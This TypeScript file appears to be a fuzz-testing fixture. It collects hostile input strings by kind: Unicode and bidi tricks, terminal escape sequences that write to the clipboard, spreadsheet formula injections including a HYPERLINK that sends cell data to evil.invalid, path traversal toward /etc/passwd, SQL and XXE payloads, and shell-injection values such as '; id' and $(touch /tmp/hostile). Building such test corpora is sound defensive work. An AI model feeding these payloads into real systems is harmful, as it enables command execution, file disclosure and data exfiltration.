import { foreign, markup, templates, urls } from './hostile-markup.ts'

/** A hostile text and its kind. */
export interface HostileText {
  kind: string
  text: string
}

const codes = (from: number, to: number) =>
  Array.from({ length: to - from + 1 }, (_, at) => String.fromCodePoint(from + at))

const words = (text: string) => text.trim().split(/\s+/)

const turning = [...codes(0x202a, 0x202e), ...codes(0x2066, 0x2069), '\u200E', '\u200F', '\u061C']
const unseen = '\u200B \u200C \u200D \u2060 \uFEFF \u00AD \u034F \u180E \u2028 \u2029 \u3164 \u{E0041}'.split(
  ' ',
)

const unicode = [
  ...turning.map((sign) => `invoice${sign}gpj.exe`),
  ...turning.map((sign) => `${sign.repeat(50)}delete${sign}`),
  ...unseen.map((sign) => `pay${sign}ments`),
  ...unseen.map((sign) => sign.repeat(20)),
  `Z${'\u0300\u0301\u0302\u0303\u0308\u0336\u0489'.repeat(60)}algo`,
  'ก็็็็็็็็็็็็็็็็็็็็'.repeat(10),
  'שלום עולם – שם של מכונה',
  'مرحبا بالعالم: اسم الخادم (1) [2]',
  'ﷺ﷽𒐫𒈙⸻',
  '漢字かな交じり文の非常に長い名前でも壊れないこと',
  '👩‍👩‍👧‍👦🏴‍☠️👨🏿‍🦽‍➡️'.repeat(10),
  '🇩🇪'.repeat(31),
  '\u{1F3FB}'.repeat(9),
  'раураl (Cyrillic)',
  'ａｄｍｉｎ＠ｅｖｉｌ',
  'ﬁle℀ ℁ ㏂',
  'i̇İıI ß ẞ ǅ',
  'W'.repeat(255),
  'i'.repeat(4_000),
  'word '.repeat(400),
  '-'.repeat(500),
  'm.'.repeat(500),
  '\u00A0'.repeat(200) + 'end',
  `a${'\u3000'.repeat(300)}b`,
  'x'.repeat(10_000),
  '界'.repeat(3_400),
  '\uD800',
  '\uDC00',
  'half \uD83D of a pair',
  '\uDE00\uD83D turned around',
  '\uFFFD\uFFFE\uFFFF',
]

const control = [
  ...codes(0x00, 0x1f).map((sign) => `ctrl${sign}char`),
  ...codes(0x7f, 0x9f).map((sign) => `c1${sign}char`),
  '\r\nSet-Cookie: session=evil',
  'line one\nline two\nline three',
  'tab\tseparated\tvalues',
  'over\rwritten',
  '\b\b\b\b\b\bgone',
]

/** Terminal escape sequences: colours, titles, links, the clipboard, reports, keys. */
export const terminalTexts: readonly string[] = [
  '\u001B[31;1;5mred\u001B[0m',
  '\u001B[2J\u001B[H',
  '\u001B[8mhidden\u001B[28m',
  '\u001B[1A\u001B[2Kanother line',
  '\u001B[999999999L',
  '\u001B[?1049h\u001B[?1000h\u001B[?1006h',
  '\u001B[6n\u001B[c\u001B[>c',
  '\u001B[21t\u001B[20t\u001B[8;1;1t',
  '\u001B[200~echo pasted\u001B[201~',
  '\u001B]0;hostile title\u0007',
  '\u001B]1;hostile icon\u001B\\',
  '\u001B]2;hostile title\u001B\\',
  '\u009D2;hostile title\u009C',
  '\u001B]8;;javascript:globalThis.hostile=1\u001B\\link\u001B]8;;\u001B\\',
  '\u001B]8;;data:text/html,x\u0007link\u001B]8;;\u0007',
  '\u001B]8;;https://evil.invalid/\u0007harbor.example\u001B]8;;\u0007',
  `\u001B]52;c;${btoa('hostile clipboard')}\u0007`,
  `\u001B]52;p;${btoa('hostile clipboard')}\u001B\\`,
  '\u001B]52;c;?\u0007',
  '\u001B]4;1;?\u0007\u001B]10;?\u0007\u001B]11;?\u0007',
  '\u001B]9;hostile notice\u0007',
  '\u001B]777;notify;hostile;notice\u0007',
  '\u001B]1337;File=inline=1;size=9:aG9zdGlsZQ==\u0007',
  '\u001B]1337;CopyToClipboard=;hostile\u0007',
  '\u001BP$qm\u001B\\',
  '\u001BP+q544e\u001B\\',
  '\u001BP1$r0m\u001B\\',
  '\u001BPq#0;2;0;0;0#0!9999~\u001B\\',
  '\u001B_Ga=T,f=24,s=1,v=1;AAAA\u001B\\',
  '\u001B^private\u001B\\',
  '\u001BXstart of string\u001B\\',
  '\u001Bc\u001B(0lqqk\u001B(B',
  '\u001B[5i\u001B[4i',
  '\u001B]unterminated',
]

const formulas = ['=', '+', '-', '@', '\t=', '\r=', '\n=', '＝', '＋', '－', '＠'].flatMap((sign) => [
  `${sign}1+1`,
  `${sign}cmd|' /C calc'!A0`,
  `${sign}HYPERLINK("https://evil.invalid?"&A1,"open")`,
])
const cells = [...words(`a,b a;=1+1 " "" a"b,"c "=1+1" '=1+1 # sep=; ID;PSCRIPT`), 'a\r\n=1+1', ' =1+1']

const prototypes = [
  ...words(`
    __proto__ constructor prototype toString valueOf hasOwnProperty __defineGetter__ isPrototypeOf toJSON then
    length name key ref children dangerouslySetInnerHTML undefined null NaN true Infinity -0 0 1e309
  `),
  '[object Object]',
]

const paths = [
  ...words(`
    . .. ../.. ../../../../etc/passwd /etc/shadow /system/silos a/b a//b / // ~ ~root .htaccess CON NUL.txt aux.
    %2e%2e%2f %00 % %zz %E0%A4%A ? ?q=1 # #top a?b#c :id * /* a;b=c
  `),
  '..\\..\\win.ini',
  'C:\\',
  'file\u0000.txt',
  'trailing ',
  ' leading',
]

const data = [
  ...words(`
    {} [] {"a":1} {"__proto__":{"hostile":1}} [["",""],null] "quoted" 'quoted' null, }{ $where *)(uid=* %s%s%n%x
    {0} %1$s
  `),
  '\\',
  '\\u003cscript\\u003e',
  '\\x3cscript\\x3e',
  "'; DROP TABLE disks;--",
  '" OR 1=1 --',
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
  '%c red',
  "$1 $& $` $'",
]

const chained = ['; id', '| id', '|| id', '&& id', '& id', "'; id; '", '"; id; "', '`id`']
const entered = ['a\nid\n', 'a\r\nid', '\u0003id\n', '\u0015id\n', '\u001B[201~\nid\n']
const quotes = ["'\\''", "$'\\n'", '\\', 'a\\']
const shell = [
  ...words(
    '$IFS$9id $HOME !! !id --help -rf -oProxyCommand=id =ls ~/x * ? [a-z] {a,b} #comment (id) <(id) a=b',
  ),
  ...chained,
  ...entered,
  ...quotes,
  '$(touch /tmp/hostile)',
  '> /tmp/hostile',
  '< /etc/passwd',
  '${HOME}',
]

const families: Record<string, readonly string[]> = {
  markup,
  foreign,
  templates,
  urls,
  unicode,
  control,
  terminal: terminalTexts,
  formulas,
  cells,
  prototypes,
  paths,
  data,
  shell,
}

/** Hostile texts of all kinds, without duplicates. */
export const hostileTexts: readonly HostileText[] = [
  ...new Map(
    Object.entries(families).flatMap(([kind, texts]) => texts.map((text) => [text, { kind, text }] as const)),
  ).values(),
]
